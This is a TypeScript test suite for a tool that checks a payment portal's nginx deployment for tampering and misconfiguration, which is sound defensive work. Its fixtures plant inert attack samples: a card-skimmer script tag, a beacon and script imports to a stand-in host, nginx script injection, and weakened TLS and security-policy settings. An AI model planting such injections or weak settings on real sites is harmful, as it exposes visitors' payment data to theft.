import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { check, checkDeployment, type Result, checks } from '#tools/operate/check/check.ts';
import { readReleases } from '#tools/operate/check/release-list.ts';
import { hashSource } from '#tools/operate/security-headers.ts';
import { sampleOf } from '../wide.ts';
import { freePort } from './trial.ts';
import { type Ground, paymentOrigin, type Plant, startGround } from './planted-nginx.ts';

let ground: Ground;
beforeAll(async () => {
  ground = await startGround();
});
afterAll(() => ground.close());

const checkWith = (plant: Plant): Promise<Result[]> =>
  ground.whileServed(plant, () => checkDeployment({ ...ground.target(), ...plant.target }));

const failuresIn = (results: readonly Result[]): string[] =>
  results.filter(({ outcome }) => outcome === 'failed' || outcome === 'warned').map(({ name }) => name);

/** The configuration with one text replaced, which has to be there. */
const swap =
  (...pairs: readonly (readonly [from: string | RegExp, to: string])[]) =>
  (conf: string): string =>
    pairs.reduce((text, [from, to]) => {
      const changed = text.replaceAll(typeof from === 'string' ? from : new RegExp(from, 'g'), to);
      if (changed === text) throw new Error(`The configuration has no ${from}.`);
      return changed;
    }, conf);

/** Lines before the first location of the portal's server. */
const before = (...lines: readonly string[]) =>
  swap(['    location ^~ /assets/ {', `${lines.join('\n')}\n    location ^~ /assets/ {`]);
const inServer = (...lines: readonly string[]) => swap(['    gzip_vary on;', `    gzip_vary on;\n${lines.join('\n')}`]);
const inAssets = (line: string) => swap(['location ^~ /assets/ {', `location ^~ /assets/ { ${line}`]);
const policy = (from: string, to: string): Plant => ({ conf: swap([from, to]) });

const [, entry = ''] = /src="\/(assets\/index-[\w-]+\.js)"/.exec(readFileSync('dist/index.html', 'utf8')) ?? [];
const built = readdirSync('dist/assets');
const fileLike = (pattern: RegExp): string => {
  const found = built.find((name) => pattern.test(name));
  if (found === undefined) throw new Error(`dist/assets has no ${pattern}.`);
  return `assets/${found}`;
};
const paying = fileLike(/^payment-form-[\w-]{8}\.js$/);
const style = fileLike(/^paying-[\w-]{8}\.css$/);
const late = fileLike(/^Calendar-[\w-]{8}\.js$/);

const hashFile = `policy/${readdirSync('dist/policy').find((name) => name.startsWith('nginx-')) ?? ''}`;

const skimmer = '<script>skim()</script>';
const allowSkimmer = (text: string): string =>
  `${text}set $portal_scripts "$portal_scripts${hashSource('skim()')} ";\n`;
/** One page with a foreign script, in one of its packed forms alone. */
const packedAnew = (ending: string, pack: (text: string) => Buffer): Plant['files'] => ({
  [`es/form/payment/index.html${ending}`]: () =>
    pack(readFileSync('dist/es/form/payment/index.html', 'utf8').replace('</body>', `${skimmer}</body>`)),
});

type Row = readonly [fault: string, expected: readonly string[], plant: Plant];

/** The served files differ from the release. */
const tampered: readonly Row[] = [
  ['a script has one more call', ['released-files'], { files: { [paying]: (text) => `${text}\nfetch('/x')` } }],
  [
    'a script names a foreign host',
    ['released-files'],
    { files: { [entry]: (text) => `${text}\nimport('https://a.example/x.js')` } },
  ],
  [
    'a page is another one if it is packed by Brotli',
    ['alike-for-visitors'],
    { files: packedAnew('.br', brotliCompressSync) },
  ],
  ['a page is another one if it is packed by gzip', ['alike-for-visitors'], { files: packedAnew('.gz', gzipSync) }],
  [
    'a page is another one for those who come from a search engine',
    ['alike-for-visitors'],
    { conf: inServer('    if ($http_referer ~ google) { return 302 https://a.example/; }') },
  ],
  ['the policy allows a script that no release has', ['policy'], { files: { [hashFile]: allowSkimmer } }],
  ['a style sheet hides something', ['released-files'], { files: { [style]: (text) => `${text}button{opacity:0}` } }],
  [
    'a page has another text',
    ['released-pages'],
    { files: { 'es/form/payment/index.html': (text) => text.replace('Matr', 'M4tr') } },
  ],
  [
    'a page loads a script of another host',
    ['own-parts', 'released-pages'],
    {
      files: {
        'fr/alert/index.html': (text) =>
          text.replace('</head>', '<script src="https://a.example/t.js"></script></head>'),
      },
    },
  ],
  [
    'a page loads a script that was added',
    ['released-files', 'released-pages'],
    {
      files: {
        'assets/extra-1a2b3c4d.js': () => 'navigator.sendBeacon("https://a.example")',
        'fr/alert/index.html': (text) =>
          text.replace('</head>', '<script src="/assets/extra-1a2b3c4d.js"></script></head>'),
      },
    },
  ],
  [
    'a page is white',
    ['language-in-address', 'released-pages'],
    { files: { 'de/help/index.html': () => '<!doctype html><div id="root"></div>' } },
  ],
  [
    'a page is one of another release',
    ['released-pages'],
    { files: { 'it/alert/index.html': (text) => text.replaceAll(entry, paying) } },
  ],
  [
    'a page has a second style',
    ['inline-parts', 'released-pages'],
    { files: { 'fr/alert/index.html': (text) => text.replace('</head>', '<style>a{}</style></head>') } },
  ],
  [
    'a page has a script in an attribute',
    ['own-parts', 'released-pages'],
    { files: { 'fr/alert/index.html': (text) => text.replace('<main', '<main onclick="x()"') } },
  ],
  [
    'a service worker was added',
    ['service-worker'],
    { files: { 'sw.js': () => 'self.addEventListener("fetch", () => {})' } },
  ],
  ['a source map was added', ['hidden-files'], { files: { [`${late}.map`]: () => '{"version":3}' } }],
  [
    'a script names a source map',
    ['source-maps', 'released-files'],
    { files: { [late]: (text) => `${text}\n//# sourceMappingURL=x.map` } },
  ],
  ['a file of the release is empty', ['whole-release', 'released-files'], { files: { [late]: () => null } }],
  [
    'a server adds a script to pages',
    ['own-parts', 'brotli', 'gzip', 'asked-again', 'released-pages'],
    {
      conf: swap(
        ['brotli_static on;', ''],
        ['gzip_static on;', ''],
        [
          'gzip_vary on;',
          `gzip_vary on; sub_filter '</head>' '<script src="https://a.example/t.js"></script></head>';`,
        ],
      ),
    },
  ],
  [
    'a header loads a script ahead',
    ['acting-headers'],
    { conf: inServer('    add_header Link "<https://a.example/x.js>; rel=preload" always;') },
  ],
  [
    'a page is redirected elsewhere',
    ['pages', 'released-pages'],
    { conf: before('    location = /fr/payment { return 302 https://a.example/; }') },
  ],
];

/** Faults of a configuration, seen from outside. */
const misconfigured: readonly Row[] = [
  ['nobody has signed the certificate', ['certificate'], { target: { ca: undefined } }],
  [
    'TLS 1.1 is taken',
    ['tls-versions'],
    {
      conf: swap([
        /ssl_protocols TLSv1.2 TLSv1.3;/,
        'ssl_protocols TLSv1 TLSv1.1 TLSv1.2; ssl_ciphers DEFAULT@SECLEVEL=0;',
      ]),
    },
  ],
  ['HTTP/1.1 alone is spoken', ['http2'], { conf: swap([' ssl http2', ' ssl']) }],
  [
    'plain HTTP leads to another host',
    ['plain-http'],
    { conf: swap(['return 308 https://$host', 'return 308 https://www.example']) },
  ],
  ['plain HTTP drops the query', ['plain-http', 'return-by-post'], { conf: swap(['$request_uri; }', '$uri; }']) }],
  [
    'plain HTTP is answered with the portal',
    ['plain-http'],
    { conf: swap([/location \/ \{ return 308[^}]*\}/, 'location / { return 200; }']) },
  ],
  ['plain HTTP redirects for a time', ['plain-http'], { conf: swap(['return 308', 'return 302']) }],
  [
    'any host is redirected',
    ['unknown-host'],
    { conf: swap(['return 421;', 'return 308 https://$host$request_uri;']) },
  ],
  [
    'any host is served',
    ['unknown-host'],
    {
      conf: swap(
        ['if ($portal_stranger) { return 421; }', ''],
        ['server_name localhost;', 'server_name localhost stranger.invalid;'],
      ),
    },
  ],
  ['HSTS is missing', ['hsts'], { conf: swap([/ {4}add_header Strict-Transport-Security [^;]*;/, '']) }],
  ['HSTS holds for an hour', ['hsts'], { conf: swap(['max-age=63072000', 'max-age=3600']) }],
  [
    'an add_header in a location has replaced the others',
    [
      'x-content-type-options',
      'referrer-policy',
      'permissions-policy',
      'cross-origin-opener-policy',
      'hsts',
      'policy-everywhere',
    ],
    {
      conf: before(
        '    location = /fr/payment/waiting { add_header X-Own 1; add_header Cache-Control no-cache; try_files /index.html =404; }',
      ),
    },
  ],
  [
    'the headers are missing with errors',
    ['x-content-type-options'],
    { conf: swap([/(X-Content-Type-Options "nosniff") always/, '$1']) },
  ],
  ['the referrer is sent along', ['referrer-policy'], policy('strict-origin-when-cross-origin', 'unsafe-url')],
  [
    'the opener policy is missing',
    ['cross-origin-opener-policy'],
    { conf: swap([/ {4}add_header Cross-Origin-Opener-Policy [^;]*;/, '']) },
  ],
  [
    'the platform sends permissions of its own too',
    ['permissions-policy'],
    {
      conf: swap([/ {4}proxy_hide_header Permissions-Policy;/, '']),
      platform: (_, response) => {
        response.setHeader('Permissions-Policy', 'camera=*');
        return false;
      },
    },
  ],
  [
    'two policies are sent',
    ['policy-everywhere', 'policy'],
    { conf: inServer(`    add_header Content-Security-Policy "img-src 'self'" always;`) },
  ],
  [
    'the policy is missing on one page',
    ['policy-everywhere'],
    {
      conf: (text) => {
        const [, sent = ''] = /add_header Content-Security-Policy ("[^"]*")/.exec(text) ?? [];
        return `map $uri $one_policy { ~/journeys$ ""; default ${sent}; }\n${swap([sent, '$one_policy'])(text)}`;
      },
    },
  ],
  ['inline scripts are allowed', ['policy', 'unsafe-sources'], policy('script-src ', "script-src 'unsafe-inline' ")],
  ['the hashes of the release are not named', ['policy'], { conf: swap([/ {4}include [^;]*nginx-\*\.txt;/, '']) }],
  [
    'two more styles are allowed',
    ['policy'],
    policy('style-src ', `style-src 'sha256-${'a'.repeat(43)}=' 'sha256-${'b'.repeat(43)}=' `),
  ],
  ['frames of others are allowed', ['policy'], policy("frame-ancestors 'none'; ", '')],
  ['Trusted Types are not asked for', ['policy'], policy("require-trusted-types-for 'script'; ", '')],
  ['the payment host is not allowed', ['payment-hosts'], policy(` ${paymentOrigin}`, '')],
  ['forms may be posted to a stranger', ['payment-hosts'], policy(paymentOrigin, `${paymentOrigin} https://a.example`)],
  [
    'pictures of a stranger are allowed',
    ['image-hosts'],
    policy("img-src 'self' blob:", "img-src 'self' blob: https://a.example"),
  ],
  [
    'pictures from everywhere are allowed',
    ['unsafe-sources', 'image-hosts'],
    policy("img-src 'self' blob:", "img-src 'self' blob: https:"),
  ],
  ['previews of files are not allowed', ['image-hosts'], policy(' blob:', '')],
  [
    'reports go to a stranger',
    ['reports'],
    policy("object-src 'none'", "object-src 'none'; report-uri https://a.example/r"),
  ],
  ['the server names its version', ['server-version'], { conf: swap(['server_tokens off;', 'server_tokens on;']) }],
  ['pages set a cookie', ['cookies'], { conf: inServer('    add_header Set-Cookie "node=1";') }],
  [
    'calls set a cookie',
    ['cookies'],
    {
      platform: (request, response) => {
        if (request.url?.includes('payments')) response.setHeader('Set-Cookie', 'JSESSIONID=1');
        return false;
      },
    },
  ],
  [
    'calls are open to every origin',
    ['other-origins'],
    {
      platform: (_, response) => {
        response.setHeader('Access-Control-Allow-Origin', '*');
        return false;
      },
    },
  ],
  [
    'calls are open to the origin that asks',
    ['other-origins'],
    {
      platform: ({ headers }, response) => {
        if (headers.origin) response.setHeader('Access-Control-Allow-Origin', headers.origin);
        return false;
      },
    },
  ],
  [
    'one page of a payment is down',
    ['pages', 'released-pages'],
    { conf: before('    location ~ ^(/es)?/payment/processing$ { return 503; }') },
  ],
  [
    'one page of a payment loses its query by a redirect',
    ['pages', 'released-pages'],
    {
      conf: before(
        '    location = /payment/processing { if ($args) { return 302 /payment/processing; } try_files /payment/processing/index.$portal_language.html =404; }',
      ),
    },
  ],
  [
    'pages are redirected to a slash',
    ['pages', 'released-pages'],
    { conf: before('    rewrite ^(/es/form/payment)$ $1/ permanent;') },
  ],
  [
    'deep links are not found',
    ['pages', 'released-pages'],
    { conf: swap([/( location ~\* .*) \/index\.html; \}/, '$1 =404; }']) },
  ],
  [
    'only index.html is served',
    ['language-in-address', 'language-of-browser', 'released-pages'],
    { conf: swap([/( location (?:~\* "[^"]*"|= \/) \{ try_files ).*;/, '$1/index.html =404;']) },
  ],
  [
    'one page in one language is in another',
    ['language-in-address', 'released-pages'],
    { conf: before('    location = /it/contact { try_files /de/contact/index.html =404; }') },
  ],
  [
    'the language of the browser is not looked at',
    ['language-of-browser', 'released-pages'],
    { conf: swap(['map $http_accept_language', 'map $http_x_none']) },
  ],
  [
    'caches do not learn of languages',
    ['vary-language'],
    { conf: swap(['    add_header Vary $portal_vary always;', '']) },
  ],
  [
    'pages were written for another host',
    ['canonical', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<link rel="canonical" href="https://staging.example/es/form/payment"></head>'),
      },
    },
  ],
  [
    'a language is missing among the alternates',
    ['alternates', 'released-pages'],
    {
      files: {
        'es/form/payment/index.html': (text) =>
          text.replace('</head>', '<link rel="alternate" hreflang="fr" href="/fr/form/payment"></head>'),
      },
    },
  ],
  [
    'pages are kept for an hour',
    ['page-cache', 'missing-cache'],
    {
      conf: swap([
        /map "\$status \$uri" \$portal_cache \{\n {4}default "no-cache";/,
        'map "$status $uri" $portal_cache {\n    default "max-age=3600";',
      ]),
    },
  ],
  [
    'one page is kept for a day',
    ['page-cache'],
    {
      conf: swap([
        '    "~^[0-9]+ /services/v1/" "";',
        '    "~^[0-9]+ /services/v1/" "";\n    "~ /de/help/index.html$" "public, max-age=86400";',
      ]),
    },
  ],
  [
    'caches on the way may keep pages',
    ['page-cache'],
    { conf: swap([/default "no-cache";/, 'default "no-cache, s-maxage=600";']) },
  ],
  [
    'pages are in another character set',
    ['page-type', 'whole-release'],
    { conf: swap(['charset utf-8;', 'charset iso-8859-1; source_charset iso-8859-1;']) },
  ],
  [
    'unknown addresses are found',
    ['unknown-page'],
    { conf: swap(['error_page 404 /index.html; return 404;', 'try_files /index.html =404;']) },
  ],
  [
    'the return from a card provider is not answered by POST',
    ['return-by-post'],
    { conf: swap(['if ($portal_returned) { return 303', 'if ($portal_stranger) { return 303']) },
  ],
  [
    'the return from a card provider loses its query',
    ['return-by-post'],
    { conf: swap([/(return 303 \S+)\$request_uri;/, '$1$uri;']) },
  ],
  [
    'the return from a card provider is sent on as a POST',
    ['return-by-post'],
    { conf: swap(['{ return 303 ', '{ return 307 ']) },
  ],
  [
    'the return from a card provider is answered by POST only with a language',
    ['return-by-post'],
    { conf: swap(['"~*^POST (?:/(?:fr|en|de|it|es))?/', '"~*^POST (?:/(?:fr|en|de|it|es))/']) },
  ],
  [
    'the platform has its card provider send drivers back by GET',
    [],
    {
      conf: swap(['if ($portal_returned) { return 303', 'if ($portal_stranger) { return 303']),
      target: { returnsByGet: true },
    },
  ],
  ['a POST opens a page', ['page-methods'], { conf: inServer('    error_page 405 =200 /index.html;') }],
  [
    'nothing is packed',
    ['packed-pages', 'brotli', 'gzip'],
    { conf: swap(['brotli_static on;', ''], ['gzip_static on;', ''], ['gzip on;', 'gzip off;']) },
  ],
  ['no .br files are sent', ['brotli'], { conf: swap(['brotli_static on;', '']) }],
  ['no .br files are to be sent', [], { conf: swap(['brotli_static on;', '']), target: { brotli: false } }],
  ['caches do not learn of packing', ['vary-encoding'], { conf: swap(['gzip_vary on;', 'gzip_vary off;']) }],
  [
    'code that is loaded later is missing',
    ['whole-release', 'released-files'],
    { conf: before(`    location = /${late} { return 404; }`) },
  ],
  [
    'scripts have the type of text',
    ['whole-release'],
    { conf: inAssets('types { text/plain js; text/css css; image/svg+xml svg; application/json json; }') },
  ],
  [
    'files are in another character set',
    ['whole-release'],
    { conf: inAssets('charset iso-8859-15; source_charset iso-8859-15;') },
  ],
  [
    'files are asked for each time',
    ['file-cache'],
    { conf: swap(['"public, max-age=31536000, immutable"', '"no-cache"']) },
  ],
  [
    'a missing file is a page',
    ['missing-file'],
    {
      conf: swap([
        'location ^~ /assets/ { try_files $uri =404; }',
        'location ^~ /assets/ { try_files $uri /index.html; }',
      ]),
    },
  ],
  ['a missing file is kept', ['missing-cache'], { conf: swap(['"~^(?:200|206|304) /assets/"', '"~ /assets/"']) }],
  ['folders are listed', ['hidden-files'], { conf: before('    location = /assets/ { autoindex on; }') }],
  [
    'hidden files are public',
    ['hidden-files'],
    { conf: swap(['location ~ /\\. { return 404; }', '']), files: { '.env': () => 'SECRET=1' } },
  ],
  [
    'a folder leads out of itself',
    ['hidden-files'],
    {
      conf: (text) => {
        const [, root = ''] = /root ([^;]+);/.exec(text) ?? [];
        return swap([/location \^~ \/assets\/ \{[^}]*\}/, `location ^~ /assets { alias ${root}/assets/; }`])(text);
      },
    },
  ],
  [
    'the file of notices has a fault',
    ['notices'],
    { files: { 'notices.json': () => '{"notices":[{"text":{"en":"Payments are paused."},"severity":"huge"}]}' } },
  ],
  ['pages have no ETag and no date', ['asked-again'], { conf: inServer('    etag off; add_header Last-Modified "";') }],
  ['pages have a date without an ETag', [], { conf: inServer('    etag off;') }],
  [
    'packed files are of another release',
    ['packed-alike'],
    { files: { [`${late}.br`]: () => brotliCompressSync('older()') } },
  ],
  [
    'calls reach the portal',
    ['calls'],
    {
      conf: swap([
        /location \^~ \/services\/v1\/ \{[^}]*\}/,
        'location ^~ /services/v1/ { try_files /index.html =404; }',
      ]),
    },
  ],
  [
    'the platform is down',
    ['calls'],
    { conf: swap([/server 127\.0\.0\.1:\d+;/, 'server 127.0.0.1:9;']), target: { operator: undefined } },
  ],
  [
    'errors of the platform are replaced',
    ['refused-calls'],
    { conf: inServer('    proxy_intercept_errors on; error_page 404 /index.html;') },
  ],
  [
    'POST is blocked',
    ['call-methods', 'payment-calls'],
    { conf: swap(['client_max_body_size 6m;', 'client_max_body_size 6m; limit_except GET { deny all; }']) },
  ],
  [
    'PATCH and DELETE are blocked',
    ['call-methods'],
    {
      conf: swap([
        'client_max_body_size 6m;',
        'client_max_body_size 6m; if ($request_method ~ "PATCH|DELETE") { return 405; }',
      ]),
    },
  ],
  [
    'the way to the provider is blocked',
    ['payment-calls'],
    { conf: before('    location = /services/v1/payments/psp { return 503; }') },
  ],
  [
    'the status of a payment is redirected',
    ['payment-calls'],
    { conf: before('    location ^~ /services/v1/payments/ { return 302 /; }') },
  ],
  [
    'calls are kept by the proxy',
    ['kept-calls'],
    {
      conf: swap(
        [
          'map $http_accept_language $portal_language {',
          'proxy_cache_path run/cache keys_zone=calls:1m;\nmap $http_accept_language $portal_language {',
        ],
        [
          'client_max_body_size 6m;',
          'client_max_body_size 6m; proxy_cache calls; proxy_cache_valid any 10m; proxy_ignore_headers Cache-Control;',
        ],
      ),
    },
  ],
  [
    'calls may be kept by browsers',
    ['kept-calls'],
    {
      platform: ({ url }, response) => {
        if (!url?.endsWith('/homepage')) response.setHeader('Cache-Control', 'public, max-age=86400');
        return false;
      },
    },
  ],
  ['a claim is too large', ['upload'], { conf: swap(['client_max_body_size 6m', 'client_max_body_size 1m']) }],
  [
    'a file of vehicles is too large',
    ['upload'],
    { conf: swap(['client_max_body_size 32m', 'client_max_body_size 6m']) },
  ],
  ['nginx sends its own Date', ['platform-date'], { conf: swap(['proxy_pass_header Date;', '']) }],
  [
    'the clock of the platform is an hour late',
    ['clock'],
    {
      platform: (_, response) => {
        response.setHeader('Date', new Date(Date.now() - 3_600_000).toUTCString());
        return false;
      },
    },
  ],
  [
    'a picture comes without TLS',
    ['mixed-content'],
    {
      platform: (request, response) => {
        if (request.url !== '/services/v1/homepage' || request.headers['if-none-match']) return false;
        response.writeHead(200, { 'Content-Type': 'application/json', ETag: '"1"' });
        response.end('{"title":"Toll","actions":[],"picture":"http://img.example/a.png"}');
        return true;
      },
    },
  ],
];

const rows: readonly Row[] = [...tampered, ...misconfigured];

describe('The check of a deployment', () => {
  it('The check of a deployment finds nothing at one that is right', async () => {
    const results = await checkWith({});
    expect(results.filter(({ outcome }) => outcome !== 'passed')).toEqual([]);
    expect(results.length).toBe(checks.length);
  });

  it.each(sampleOf(rows, 14, 2))(
    'The check of a deployment finds that %s: %j',
    async (_, expected, plant) => {
      const results = await checkWith(plant);
      expect(failuresIn(results)).toEqual(expected);
      for (const { outcome, reason, write } of results)
        if (outcome === 'failed' || outcome === 'warned')
          expect([reason, write].every((text) => (text ?? '').length > 10)).toBe(true);
    },
    180_000,
  );

  it('The check of a deployment finds a script that reads card numbers, in the packed pages and the policy alone', async () => {
    const results = await checkWith({
      files: { ...packedAnew('.br', brotliCompressSync), ...packedAnew('.gz', gzipSync), [hashFile]: allowSkimmer },
    });
    expect(failuresIn(results)).toEqual(['policy', 'alike-for-visitors']);
  });

  it('The check of a deployment allows the inline script of an earlier release that was named too, during an update', async () => {
    const earlier = join(ground.folder, 'earlier');
    mkdirSync(join(earlier, 'dist/policy'), { recursive: true });
    cpSync(join(ground.folder, 'SHA256SUMS'), join(earlier, 'SHA256SUMS'));
    writeFileSync(join(earlier, 'dist/policy/0.json'), JSON.stringify({ scripts: [hashSource('skim()')], styles: [] }));
    const release = readReleases([ground.folder, earlier], 'hosts/localhost');
    const results = await checkWith({ files: { [hashFile]: allowSkimmer }, target: { release } });
    expect(failuresIn(results)).toEqual([]);
  });

  describe('of a portal whose host has pages of its own', () => {
    const image = 'https://img.example';
    /** The page of an operator, with a picture of the platform and one of a named host. */
    const hostPage = (more = '') => ({
      'hosts/localhost/es/form/payment/index.html': () =>
        readFileSync('dist/es/form/payment/index.html', 'utf8')
          .replace('</head>', '<link rel="preload" as="image" href="/services/v1/pictures/road.svg"></head>')
          .replace('</main>', `<img src="${image}/logo.png" alt="">${more}</main>`)
          .replace('</body>', '<script type="application/json">{"answers":{}}</script></body>'),
    });
    const checkHost = (more?: string) =>
      checkWith({
        files: hostPage(more),
        conf: swap(["img-src 'self' blob:", `img-src 'self' blob: ${image}`]),
        target: {
          imageOrigins: [image],
          release: readReleases([join(ground.folder, 'SHA256SUMS')], 'hosts/localhost'),
        },
      });

    it('The check of a deployment finds nothing at a portal whose host has right pages of its own', async () => {
      expect((await checkHost()).filter(({ outcome }) => outcome !== 'passed')).toEqual([]);
    });

    it('The check of a deployment finds a script that was added to a page of the host’s own', async () => {
      expect(failuresIn(await checkHost(skimmer))).toEqual(['inline-parts', 'released-pages']);
    });
  });

  it('Each check of a deployment fails for one of the planted faults', () => {
    const planted = new Set(rows.flatMap(([, expected]) => expected));
    // This machine's own addresses all answer, or cannot be reached.
    expect(checks.map(({ name }) => name).filter((name) => !planted.has(name))).toEqual(['addresses']);
  });
});

describe('The command', () => {
  const printed: string[] = [];
  beforeAll(() => void vi.spyOn(process.stdout, 'write').mockImplementation((text) => printed.push(String(text)) > 0));
  afterAll(() => void vi.restoreAllMocks());

  it('The check of a deployment ends with its findings, in one line and as JSON', async () => {
    const json = join(ground.folder, 'report.json');
    const code = await ground.whileServed({ conf: swap(['max-age=63072000', 'max-age=3600']) }, () =>
      check([
        ground.origin,
        '--payment-origin',
        paymentOrigin,
        '--http-port',
        `${ground.httpPort}`,
        '--line',
        '--ca',
        join(ground.folder, 'chain.pem'),
        '--release',
        join(ground.folder, 'SHA256SUMS'),
        '--json',
        json,
      ]),
    );
    expect(code).toBe(1);
    expect(printed.join('')).toMatch(
      /^\S+Z https:\/\/localhost:\d+ \d+ passed, 0 warned, 1 failed, 0 skipped: hsts\n$/,
    );
    expect(JSON.parse(readFileSync(json, 'utf8'))).toMatchObject({ target: ground.origin, failed: 1 });
  });

  it('The check of a deployment fails without an address, without an answer, or with the file list of no release', async () => {
    await expect(check(['pay.example'])).rejects.toThrow('Name an address');
    await expect(check([`https://localhost:${await freePort()}`])).rejects.toThrow('could not be tried');
    await expect(check(['https://localhost', '--release', 'package.json'])).rejects.toThrow('not a release');
  });
});
